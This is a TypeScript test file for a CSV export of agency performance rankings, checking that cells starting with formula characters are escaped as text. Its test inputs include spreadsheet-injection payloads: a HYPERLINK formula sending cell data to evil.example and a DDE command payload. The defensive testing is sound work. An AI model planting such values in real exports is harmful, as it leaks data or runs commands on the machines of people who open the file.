import type { AgencyReport, Ranking } from './kpi-report';
import type { PeriodCounts } from './period-counts';
import { rankingCsv } from './ranking-csv';
import { scorePeriod } from './score';

const counts = { received: 3, onTime: 2, overdue: 1 } as PeriodCounts;

const agency = (name: string | null, agencyCode = '000.00.01.H26'): AgencyReport => ({
  agencyCode,
  name,
  rank: 1,
  counts,
  score: scorePeriod(counts),
});

const ranking = (...agencies: AgencyReport[]): Ranking => ({
  period: { from: '2026-01-01', to: '2026-02-01' } as Ranking['period'],
  city: { counts, score: scorePeriod(counts) },
  agencies,
});

/** The cells of each data row, as a spreadsheet reads them (quotes removed, "" unescaped). */
function rows(csv: string): string[][] {
  const cells: string[][] = [[]];
  const pattern = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n|$)/g;
  for (const match of csv.replace(/^\uFEFF/, '').matchAll(pattern)) {
    if (match[0] === '') break;
    cells[cells.length - 1].push(match[2] !== undefined ? match[2].replace(/""/g, '"') : match[1]);
    if (match[3] === '\r\n') cells.push([]);
  }
  return cells.filter((row) => row.length > 0).slice(1);
}

describe(rankingCsv.name, () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"xem")'],
    ['+cmd|" /C calc"!A0'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('writes a text cell starting with a formula character as text: %j', (name) => {
    const sut = rankingCsv(ranking(agency(name, name)));
    const [row] = rows(sut);
    expect(row[1]).toBe(`'${name}`);
    expect(row[2]).toBe(`'${name}`);
  });

  it('leaves other text and numbers as they are, a negative number included', () => {
    const report = agency('Sở Tư pháp, Hà Nội');
    report.score = { ...report.score, points: -1.5 };
    const sut = rankingCsv(ranking(report));
    const [row] = rows(sut);
    expect(row.slice(0, 4)).toEqual(['1', '000.00.01.H26', 'Sở Tư pháp, Hà Nội', '-1.5']);
  });
});
